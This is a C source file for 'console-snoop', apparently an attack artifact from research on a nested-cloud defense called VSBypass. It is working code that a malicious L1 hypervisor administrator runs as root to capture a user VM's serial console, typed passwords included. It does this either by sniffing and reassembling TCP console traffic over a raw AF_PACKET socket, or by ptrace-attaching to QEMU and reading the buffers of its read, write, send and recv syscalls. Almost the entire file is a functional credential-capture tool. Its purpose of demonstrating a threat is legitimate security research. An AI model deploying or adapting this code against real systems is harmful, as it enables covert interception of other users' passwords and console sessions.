/*
 * console-snoop: the L1 administrator captures a user VM's serial console.
 *
 * Threat (papers/000, VSBypass): in a conventional nested cloud, L2's COM1 is
 * emulated by the guest hypervisor's QEMU in L1 and exposed as a TCP server on
 * L1's eth0 (port 5000+i, reached from the host through L0's user-mode
 * network), so every console byte, a typed password included, passes through
 * L1, which the untrusted administrator controls. This program is what that
 * administrator runs inside L1. Under VSBypass, L2's COM1 is a shadow UART in
 * L0: console bytes never enter L1, and the same run captures nothing.
 *
 * Two capture paths, one per mode:
 *   net (default)  an AF_PACKET raw socket on IFACE sees the console's TCP
 *                  traffic both ways; segments to/from the port range are
 *                  reassembled per connection (retransmissions once).
 *   --pid PID      ptrace of the device emulator (L1's QEMU, PID): the data
 *                  returned by its read/readv/recvfrom/recvmsg (client->VM)
 *                  and passed to write/writev/sendto/sendmsg (VM->client) on
 *                  sockets and terminals. This path needs no network and still
 *                  works if the console were carried encrypted (SSH, TLS) up to
 *                  L1's QEMU: the emulator must hold the plaintext. It is the
 *                  stronger attack; the net path is the paper's.
 *
 * Preconditions: runs in L1 as root (CAP_NET_RAW for net mode; CAP_SYS_PTRACE
 * or same uid and a Yama ptrace_scope that allows attaching for --pid); Linux
 * >= 5.3 (PTRACE_GET_SYSCALL_INFO); x86_64 tracee. The console client connects
 * (or sends) during the capture window. Runs at most --seconds, then detaches
 * and exits; SIGINT/SIGTERM end it early the same way.
 *
 * Output: with -o BASE, the captured bytes go to BASE.to-vm and BASE.from-vm
 * (raw, in stream order). A summary goes to stderr. With a secret, stdout gets
 * exactly one line: "captured N secret bytes" (definition in usage()).
 * Exit status: 0 capture ran to its end, 1 runtime error, 2 usage error.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <limits.h>
#include <linux/audit.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "flow.h"
#include "pkt.h"
#include "secret.h"

#define PROG "console-snoop"
#define FRAME_MAX (64 * 1024 + 256)     /* a GSO frame seen on its way out */
#define RCVBUF_BYTES (4 * 1024 * 1024)
#define MAX_TRACEES 1024
#define MAX_FDS 4096
#define MAX_IOV 64
#define CHUNK 4096

struct opts {
    const char *iface;
    uint16_t port_lo, port_hi;
    unsigned seconds;
    const char *out_base;
    pid_t pid;
    int fd;                     /* --fd: only this fd of the tracee, or -1 */
};

struct capture {
    FILE *out[2];               /* indexed by enum snoop_dir */
    bool have_secret;
    struct secret secret;
    size_t best;                /* secret bytes captured so far */
    uint64_t bytes[2];
    uint64_t units;             /* segments or syscalls seen */
};

static volatile sig_atomic_t stop_requested;

static void on_stop_signal(int sig) { (void)sig; stop_requested = 1; }
static void on_tick(int sig) { (void)sig; }

static void usage(void)
{
    fprintf(stderr,
"usage: " PROG " [-i IFACE] [-p LO-HI] [-t SECONDS] [-o BASE] [-s SECRET | -S FILE]\n"
"       " PROG " --pid PID [--fd N] [-t SECONDS] [-o BASE] [-s SECRET | -S FILE]\n"
"\n"
"Capture a user VM's serial console from inside L1 (run as root in L1).\n"
"  -i, --iface IFACE    interface for the net mode (default eth0)\n"
"  -p, --ports LO-HI    console TCP server ports in L1 (default 5000-5007)\n"
"      --pid PID        ptrace mode: trace the device emulator PID (L1's QEMU)\n"
"      --fd N           ptrace mode: only this file descriptor (default: all\n"
"                       sockets and terminals)\n"
"  -t, --seconds N      stop after N seconds (default 60, at most 86400)\n"
"  -o, --out BASE       write client->VM bytes to BASE.to-vm and VM->client\n"
"                       bytes to BASE.from-vm\n"
"  -s, --secret STR     the secret to look for (e.g. the user's password)\n"
"  -S, --secret-file F  the same, read from F (one trailing newline dropped)\n"
"\n"
"With a secret, prints one line on stdout: 'captured N secret bytes', where N\n"
"is the length of the longest prefix of the secret that occurs contiguously\n"
"in one client->VM stream (one TCP connection in net mode, one file\n"
"descriptor in ptrace mode), in order; 0 if not even its first byte does.\n"
"N equal to the secret's length means the whole secret was captured. Short\n"
"prefixes (1-2 bytes) can occur by chance in other typed text.\n"
"Exit status: 0 the capture ran, 1 runtime error, 2 usage error.\n");
}

/* --- options ------------------------------------------------------------- */

static int parse_uint(const char *s, unsigned long max, unsigned long *v)
{
    char *end;
    errno = 0;
    if (*s < '0' || *s > '9')
        return -EINVAL;
    *v = strtoul(s, &end, 10);
    if (errno || *end || *v > max)
        return -EINVAL;
    return 0;
}

static int parse_ports(const char *s, uint16_t *lo, uint16_t *hi)
{
    char buf[32];
    unsigned long a, b;
    if (strlen(s) >= sizeof(buf))
        return -EINVAL;
    strcpy(buf, s);
    char *dash = strchr(buf, '-');
    if (dash)
        *dash = '\0';
    if (parse_uint(buf, 65535, &a) || parse_uint(dash ? dash + 1 : buf, 65535, &b) || a > b || a == 0)
        return -EINVAL;
    *lo = (uint16_t)a;
    *hi = (uint16_t)b;
    return 0;
}

static int load_secret(struct capture *c, const char *str, const char *file)
{
    uint8_t buf[SECRET_MAX + 2];
    size_t n;

    if (str) {
        n = strlen(str);
        memcpy(buf, str, n > SECRET_MAX ? 0 : n);   /* too long: secret_init refuses n */
    } else {
        FILE *f = fopen(file, "rb");
        if (!f) {
            fprintf(stderr, PROG ": %s: %s\n", file, strerror(errno));
            return -errno;
        }
        n = fread(buf, 1, sizeof(buf), f);
        fclose(f);
        if (n > 0 && buf[n - 1] == '\n')
            n--;
    }
    if (secret_init(&c->secret, buf, n) < 0) {
        fprintf(stderr, PROG ": the secret must be 1 to %d bytes\n", SECRET_MAX);
        return -EINVAL;
    }
    c->have_secret = true;
    return 0;
}

/* --- output -------------------------------------------------------------- */

static int open_outputs(struct capture *c, const char *base)
{
    static const char *suffix[2] = { "to-vm", "from-vm" };
    for (int d = 0; d < 2; d++) {
        char path[PATH_MAX];
        if (snprintf(path, sizeof(path), "%s.%s", base, suffix[d]) >= (int)sizeof(path))
            return -ENAMETOOLONG;
        c->out[d] = fopen(path, "wb");
        if (!c->out[d]) {
            int e = errno;
            fprintf(stderr, PROG ": %s: %s\n", path, strerror(e));
            return -e;
        }
    }
    return 0;
}

static int close_outputs(struct capture *c)
{
    int rc = 0;
    for (int d = 0; d < 2; d++) {
        if (!c->out[d])
            continue;
        bool failed = ferror(c->out[d]);       /* a write that failed before the final flush */
        if (fclose(c->out[d]) != 0 || failed) {
            fprintf(stderr, PROG ": writing the capture failed\n");
            rc = -EIO;
        }
        c->out[d] = NULL;
    }
    return rc;
}

/* Account n captured bytes of one stream whose matcher state is *state (NULL: no matching). */
static void deliver(struct capture *c, enum snoop_dir d, size_t *state, const uint8_t *p, size_t n)
{
    if (n == 0)
        return;
    c->bytes[d] += n;
    if (c->out[d])
        fwrite(p, 1, n, c->out[d]);
    if (d == SNOOP_TO_VM && c->have_secret && state) {
        size_t got = secret_feed(&c->secret, state, p, n);
        if (got > c->best)
            c->best = got;
    }
}

static int64_t now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* --- net mode: AF_PACKET on the interface ------------------------------- */

static int capture_net(const struct opts *o, struct capture *c)
{
    static uint8_t frame[FRAME_MAX];
    static struct snoop_flows flows;
    uint64_t malformed = 0, gaps = 0;

    unsigned ifindex = if_nametoindex(o->iface);
    if (ifindex == 0) {
        fprintf(stderr, PROG ": interface %s: %s\n", o->iface, strerror(errno));
        return -ENODEV;
    }
    int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
    if (fd < 0) {
        int e = errno;
        fprintf(stderr, PROG ": AF_PACKET socket: %s (needs CAP_NET_RAW)\n", strerror(e));
        return -e;
    }
    int rcvbuf = RCVBUF_BYTES;
    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &rcvbuf, sizeof(rcvbuf));
    struct sockaddr_ll sll = {
        .sll_family = AF_PACKET,
        .sll_protocol = htons(ETH_P_ALL),
        .sll_ifindex = (int)ifindex,
    };
    if (bind(fd, (struct sockaddr *)&sll, sizeof(sll)) < 0) {
        int e = errno;
        fprintf(stderr, PROG ": bind to %s: %s\n", o->iface, strerror(e));
        close(fd);
        return -e;
    }
    snoop_flows_init(&flows, o->port_lo, o->port_hi);
    fprintf(stderr, PROG ": capturing on %s, TCP ports %u-%u, for %u s\n",
            o->iface, o->port_lo, o->port_hi, o->seconds);

    int64_t deadline = now_ms() + (int64_t)o->seconds * 1000;
    int rc = 0;
    while (!stop_requested) {
        int64_t left = deadline - now_ms();
        if (left <= 0)
            break;
        struct pollfd pfd = { .fd = fd, .events = POLLIN };
        int r = poll(&pfd, 1, (int)left);
        if (r < 0) {
            if (errno == EINTR)
                continue;
            rc = -errno;
            break;
        }
        if (r == 0)
            continue;
        struct sockaddr_ll from;
        socklen_t fromlen = sizeof(from);
        ssize_t n = recvfrom(fd, frame, sizeof(frame), MSG_DONTWAIT | MSG_TRUNC,
                             (struct sockaddr *)&from, &fromlen);
        if (n < 0) {
            if (errno == EINTR || errno == EAGAIN)
                continue;
            rc = -errno;
            break;
        }
        /* A bound socket can still hold frames queued from any interface before bind. */
        if (from.sll_ifindex != (int)ifindex)
            continue;
        /* MSG_TRUNC returns the real length: a longer frame parses as truncated. */
        size_t len = (size_t)n > sizeof(frame) ? sizeof(frame) : (size_t)n;
        struct snoop_seg seg;
        int pr = snoop_parse_eth(frame, len, &seg);
        if (pr == -EINVAL)
            malformed++;
        if (pr < 0)
            continue;
        struct snoop_flow *f;
        enum snoop_dir d;
        const uint8_t *p;
        size_t plen;
        if (snoop_flows_add(&flows, &seg, &f, &d, &p, &plen) < 0)
            continue;
        c->units++;
        deliver(c, d, &f->match_state, p, plen);
    }
    if (rc < 0)
        fprintf(stderr, PROG ": capture: %s\n", strerror(-rc));

    struct tpacket_stats st = { 0 };
    socklen_t stlen = sizeof(st);
    getsockopt(fd, SOL_PACKET, PACKET_STATISTICS, &st, &stlen);
    close(fd);

    unsigned nflows = 0;
    for (size_t i = 0; i < SNOOP_MAX_FLOWS; i++) {
        if (!flows.f[i].used)
            continue;
        nflows++;
        gaps += flows.f[i].half[0].gaps + flows.f[i].half[1].gaps;
    }
    fprintf(stderr, PROG ": %llu segments on %u connection(s), %llu bytes to VM, %llu bytes from VM, "
            "%llu gaps, %llu malformed frames, %u dropped by the kernel\n",
            (unsigned long long)c->units, nflows, (unsigned long long)c->bytes[SNOOP_TO_VM],
            (unsigned long long)c->bytes[SNOOP_FROM_VM], (unsigned long long)gaps,
            (unsigned long long)malformed, st.tp_drops);
    return rc;
}

/* --- ptrace mode: the device emulator's syscalls ------------------------- */

struct tracee {
    pid_t tid;                  /* 0: free slot */
    long nr;                    /* syscall in progress, -1 if none known */
    uint64_t args[6];
};

struct tracer {
    pid_t pid;
    int only_fd;
    struct tracee t[MAX_TRACEES];
    unsigned count;
    size_t fd_state[MAX_FDS];   /* secret matcher state per tracee fd */
};

static struct tracee *tracee_find(struct tracer *tr, pid_t tid, bool add)
{
    struct tracee *free_slot = NULL;
    for (size_t i = 0; i < MAX_TRACEES; i++) {
        if (tr->t[i].tid == tid)
            return &tr->t[i];
        if (!free_slot && tr->t[i].tid == 0)
            free_slot = &tr->t[i];
    }
    if (!add || !free_slot)
        return NULL;
    free_slot->tid = tid;
    free_slot->nr = -1;
    tr->count++;
    return free_slot;
}

static void tracee_drop(struct tracer *tr, pid_t tid)
{
    struct tracee *t = tracee_find(tr, tid, false);
    if (t) {
        t->tid = 0;
        tr->count--;
    }
}

/* Seize every thread of the process; repeat until a pass finds no new one. */
static int attach_all(struct tracer *tr)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/task", (int)tr->pid);
    for (int pass = 0; pass < 8; pass++) {
        DIR *d = opendir(path);
        if (!d)
            return -errno;
        bool added = false;
        struct dirent *e;
        while ((e = readdir(d))) {
            unsigned long v;
            if (parse_uint(e->d_name, INT_MAX, &v))
                continue;
            pid_t tid = (pid_t)v;
            if (tracee_find(tr, tid, false))
                continue;
            if (ptrace(PTRACE_SEIZE, tid, 0, PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACECLONE) < 0) {
                if (errno == ESRCH)
                    continue;
                int err = errno;
                closedir(d);
                return -err;
            }
            if (!tracee_find(tr, tid, true)) {
                closedir(d);
                return -ENOSPC;
            }
            ptrace(PTRACE_INTERRUPT, tid, 0, 0);   /* stops it so syscall tracing can start */
            added = true;
        }
        closedir(d);
        if (!added)
            return 0;
    }
    return 0;
}

static bool fd_is_console_like(const struct tracer *tr, int fd)
{
    if (tr->only_fd >= 0)
        return fd == tr->only_fd;
    char path[64], target[128];
    snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)tr->pid, fd);
    ssize_t n = readlink(path, target, sizeof(target) - 1);
    if (n <= 0)
        return false;
    target[n] = '\0';
    return !strncmp(target, "socket:", 7) || !strncmp(target, "/dev/pts/", 9) ||
           !strcmp(target, "/dev/ptmx") || !strncmp(target, "/dev/tty", 8);
}

/* Copy up to want bytes at the tracee's addr and deliver them. */
static void copy_out(struct tracer *tr, struct capture *c, enum snoop_dir d, size_t *state,
                     uint64_t addr, size_t want)
{
    uint8_t buf[CHUNK];
    while (want > 0) {
        size_t n = want < sizeof(buf) ? want : sizeof(buf);
        struct iovec local = { buf, n };
        struct iovec remote = { (void *)(uintptr_t)addr, n };
        ssize_t got = process_vm_readv(tr->pid, &local, 1, &remote, 1, 0);
        if (got <= 0)
            return;
        deliver(c, d, state, buf, (size_t)got);
        addr += (uint64_t)got;
        want -= (size_t)got;
    }
}

/* Deliver the first total bytes of the tracee's iovec array [iov_addr, iovcnt). */
static void copy_iov(struct tracer *tr, struct capture *c, enum snoop_dir d, size_t *state,
                     uint64_t iov_addr, uint64_t iovcnt, size_t total)
{
    struct iovec iov[MAX_IOV];
    size_t cnt = iovcnt < MAX_IOV ? (size_t)iovcnt : MAX_IOV;
    struct iovec local = { iov, cnt * sizeof(iov[0]) };
    struct iovec remote = { (void *)(uintptr_t)iov_addr, cnt * sizeof(iov[0]) };
    if (process_vm_readv(tr->pid, &local, 1, &remote, 1, 0) != (ssize_t)(cnt * sizeof(iov[0])))
        return;
    for (size_t i = 0; i < cnt && total > 0; i++) {
        size_t n = iov[i].iov_len < total ? iov[i].iov_len : total;
        copy_out(tr, c, d, state, (uint64_t)(uintptr_t)iov[i].iov_base, n);
        total -= n;
    }
}

static void on_syscall_exit(struct tracer *tr, struct capture *c, const struct tracee *t, int64_t rval)
{
    enum snoop_dir d;
    switch (t->nr) {
    case SYS_read: case SYS_readv: case SYS_recvfrom: case SYS_recvmsg:
        d = SNOOP_TO_VM;
        break;
    case SYS_write: case SYS_writev: case SYS_sendto: case SYS_sendmsg:
        d = SNOOP_FROM_VM;
        break;
    default:
        return;
    }
    int fd = (int)t->args[0];
    if (rval <= 0 || fd < 0 || !fd_is_console_like(tr, fd))
        return;
    c->units++;
    size_t *state = fd < MAX_FDS ? &tr->fd_state[fd] : NULL;
    size_t n = (size_t)rval;
    switch (t->nr) {
    case SYS_read: case SYS_recvfrom: case SYS_write: case SYS_sendto:
        copy_out(tr, c, d, state, t->args[1], n);
        break;
    case SYS_readv: case SYS_writev:
        copy_iov(tr, c, d, state, t->args[1], t->args[2], n);
        break;
    default: {                  /* recvmsg, sendmsg */
        struct msghdr mh;
        struct iovec local = { &mh, sizeof(mh) };
        struct iovec remote = { (void *)(uintptr_t)t->args[1], sizeof(mh) };
        if (process_vm_readv(tr->pid, &local, 1, &remote, 1, 0) == (ssize_t)sizeof(mh))
            copy_iov(tr, c, d, state, (uint64_t)(uintptr_t)mh.msg_iov, mh.msg_iovlen, n);
    }
    }
}

static void on_syscall_stop(struct tracer *tr, struct capture *c, struct tracee *t)
{
    struct __ptrace_syscall_info info;
    if (ptrace(PTRACE_GET_SYSCALL_INFO, t->tid, sizeof(info), &info) <= 0)
        return;
    if (info.arch != AUDIT_ARCH_X86_64) {
        t->nr = -1;
        return;
    }
    if (info.op == PTRACE_SYSCALL_INFO_ENTRY) {
        t->nr = (long)info.entry.nr;
        memcpy(t->args, info.entry.args, sizeof(t->args));
    } else if (info.op == PTRACE_SYSCALL_INFO_EXIT) {
        if (t->nr >= 0 && !info.exit.is_error)
            on_syscall_exit(tr, c, t, info.exit.rval);
        t->nr = -1;
    }
}

static bool is_group_stop_signal(int sig)
{
    return sig == SIGSTOP || sig == SIGTSTP || sig == SIGTTIN || sig == SIGTTOU;
}

/* Stop each thread once more and detach, passing on a signal it was about to get. */
static void detach_all(struct tracer *tr)
{
    for (size_t i = 0; i < MAX_TRACEES; i++) {
        pid_t tid = tr->t[i].tid;
        if (tid == 0)
            continue;
        if (ptrace(PTRACE_INTERRUPT, tid, 0, 0) == 0) {
            int st;
            if (waitpid(tid, &st, __WALL) == tid && WIFSTOPPED(st)) {
                int sig = WSTOPSIG(st);
                bool plain_signal = (st >> 16) == 0 && sig != (SIGTRAP | 0x80);
                ptrace(PTRACE_DETACH, tid, 0, plain_signal ? sig : 0);
            }
        }
        tracee_drop(tr, tid);
    }
}

static int capture_ptrace(const struct opts *o, struct capture *c)
{
    static struct tracer tr;
    memset(&tr, 0, sizeof(tr));
    tr.pid = o->pid;
    tr.only_fd = o->fd;

    /* A periodic tick breaks waitpid() so the deadline holds while the tracee is quiet. */
    struct sigaction sa = { .sa_handler = on_tick };
    sigaction(SIGALRM, &sa, NULL);
    struct itimerval it = { { 0, 200000 }, { 0, 200000 } };
    setitimer(ITIMER_REAL, &it, NULL);

    int rc = attach_all(&tr);
    if (rc < 0) {
        fprintf(stderr, PROG ": attach to pid %d: %s\n", (int)o->pid, strerror(-rc));
        detach_all(&tr);
        return rc;
    }
    fprintf(stderr, PROG ": tracing pid %d (%u threads), %s, for %u s\n", (int)o->pid,
            tr.count, o->fd >= 0 ? "one fd" : "sockets and terminals", o->seconds);

    int64_t deadline = now_ms() + (int64_t)o->seconds * 1000;
    while (!stop_requested && now_ms() < deadline && tr.count > 0) {
        int st;
        pid_t tid = waitpid(-1, &st, __WALL);
        if (tid < 0) {
            if (errno == EINTR)
                continue;
            if (errno != ECHILD)
                rc = -errno;
            break;
        }
        if (WIFEXITED(st) || WIFSIGNALED(st)) {
            tracee_drop(&tr, tid);
            continue;
        }
        if (!WIFSTOPPED(st))
            continue;
        /* A new thread's first stop can come before its creator's clone event. */
        struct tracee *t = tracee_find(&tr, tid, true);
        int sig = WSTOPSIG(st), event = st >> 16;
        int inject = 0;
        if (sig == (SIGTRAP | 0x80)) {
            if (t)
                on_syscall_stop(&tr, c, t);
        } else if (event == PTRACE_EVENT_STOP) {
            if (is_group_stop_signal(sig)) {
                ptrace(PTRACE_LISTEN, tid, 0, 0);
                continue;
            }
        } else if (event == 0) {
            inject = sig;       /* signal-delivery-stop: pass the signal on */
        }
        ptrace(PTRACE_SYSCALL, tid, 0, inject);
    }
    struct itimerval off = { { 0, 0 }, { 0, 0 } };
    setitimer(ITIMER_REAL, &off, NULL);
    detach_all(&tr);
    if (rc < 0)
        fprintf(stderr, PROG ": tracing: %s\n", strerror(-rc));
    fprintf(stderr, PROG ": %llu console syscalls, %llu bytes to VM, %llu bytes from VM\n",
            (unsigned long long)c->units, (unsigned long long)c->bytes[SNOOP_TO_VM],
            (unsigned long long)c->bytes[SNOOP_FROM_VM]);
    return rc;
}

/* --- main ----------------------------------------------------------------- */

int main(int argc, char **argv)
{
    static struct capture c;
    struct opts o = { .iface = "eth0", .port_lo = 5000, .port_hi = 5007, .seconds = 60, .fd = -1 };
    const char *secret_str = NULL, *secret_file = NULL;
    enum { OPT_PID = 256, OPT_FD };
    static const struct option lo[] = {
        { "iface", required_argument, 0, 'i' },
        { "ports", required_argument, 0, 'p' },
        { "seconds", required_argument, 0, 't' },
        { "out", required_argument, 0, 'o' },
        { "secret", required_argument, 0, 's' },
        { "secret-file", required_argument, 0, 'S' },
        { "pid", required_argument, 0, OPT_PID },
        { "fd", required_argument, 0, OPT_FD },
        { "help", no_argument, 0, 'h' },
        { 0, 0, 0, 0 },
    };
    int ch;
    unsigned long v;
    while ((ch = getopt_long(argc, argv, "i:p:t:o:s:S:h", lo, NULL)) != -1) {
        switch (ch) {
        case 'i': o.iface = optarg; break;
        case 'p':
            if (parse_ports(optarg, &o.port_lo, &o.port_hi)) {
                fprintf(stderr, PROG ": bad port range '%s'\n", optarg);
                return 2;
            }
            break;
        case 't':
            if (parse_uint(optarg, 86400, &v) || v == 0) {
                fprintf(stderr, PROG ": bad --seconds '%s'\n", optarg);
                return 2;
            }
            o.seconds = (unsigned)v;
            break;
        case 'o': o.out_base = optarg; break;
        case 's': secret_str = optarg; break;
        case 'S': secret_file = optarg; break;
        case OPT_PID:
            if (parse_uint(optarg, INT_MAX, &v) || v == 0) {
                fprintf(stderr, PROG ": bad --pid '%s'\n", optarg);
                return 2;
            }
            o.pid = (pid_t)v;
            break;
        case OPT_FD:
            if (parse_uint(optarg, INT_MAX, &v)) {
                fprintf(stderr, PROG ": bad --fd '%s'\n", optarg);
                return 2;
            }
            o.fd = (int)v;
            break;
        case 'h': usage(); return 0;
        default: usage(); return 2;
        }
    }
    if (optind != argc || (secret_str && secret_file) || (o.fd >= 0 && o.pid == 0)) {
        usage();
        return 2;
    }
    if ((secret_str || secret_file) && load_secret(&c, secret_str, secret_file) < 0)
        return 2;

    struct sigaction sa = { .sa_handler = on_stop_signal };   /* no SA_RESTART: EINTR ends waits */
    sigaction(SIGINT, &sa, NULL);
    sigaction(SIGTERM, &sa, NULL);

    if (o.out_base && open_outputs(&c, o.out_base) < 0) {
        close_outputs(&c);
        return 1;
    }
    int rc = o.pid ? capture_ptrace(&o, &c) : capture_net(&o, &c);
    if (close_outputs(&c) < 0)
        rc = -EIO;
    if (c.have_secret) {
        printf("captured %zu secret bytes\n", c.best);
        fprintf(stderr, PROG ": secret is %zu bytes; %s\n", c.secret.len,
                c.best == c.secret.len ? "captured whole" : "not captured whole");
    }
    return rc < 0 ? 1 : 0;
}
